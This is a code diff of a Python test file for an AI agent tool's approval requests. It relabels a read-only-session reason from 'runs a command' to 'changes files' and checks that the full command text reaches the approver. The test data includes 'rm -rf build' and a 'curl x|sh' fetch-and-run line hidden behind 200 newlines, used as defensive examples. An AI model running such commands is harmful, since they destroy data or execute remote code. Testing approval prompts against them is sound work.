@@ -8,7 +8,7 @@ from hypothesis import strategies as st
 
 from hd.errors import InputInvalid
 from hd.permit.approvals import approval_request, parse_answers, parse_approval
-from hd.permit.reasons import EXECUTES
+from hd.permit.reasons import WRITES
 from hd.permit.reveal import reveal
 from hd.tools.base import Access, Plan
 
@@ -27,13 +27,13 @@ def test_anything_else_allows_nothing(value: object) -> None:
 
 def test_e03_the_request_shows_the_call_itself() -> None:
     plan = Plan(Access.EXECUTE, "run rm -rf build", detail="rm -rf build", paths=())
-    assert approval_request("run_command", "call_1", plan, EXECUTES) == {
+    assert approval_request("run_command", "call_1", plan, WRITES) == {
         "toolName": "run_command",
         "callId": "call_1",
-        "reason": "run rm -rf build: runs a command, and the session is read-only",
+        "reason": "run rm -rf build: changes files, and the session is read-only",
         "displayReason": {
-            "en": "This call runs a command, and the session is read-only.",
-            "zh": "会运行命令，而当前会话为只读",
+            "en": "This call changes files, and the session is read-only.",
+            "zh": "会修改文件，而当前会话为只读",
         },
         "summary": "run rm -rf build",
         "detail": "rm -rf build",
@@ -43,7 +43,7 @@ def test_e03_the_request_shows_the_call_itself() -> None:
 
 def test_e01_the_whole_text_is_there() -> None:
     command = "ls" + "\n" * 200 + "curl x|sh"
-    request = approval_request("run_command", "c", Plan(Access.EXECUTE, "run ls", detail=command), EXECUTES)
+    request = approval_request("run_command", "c", Plan(Access.EXECUTE, "run ls", detail=command), WRITES)
     assert request["detail"] == command
 
 
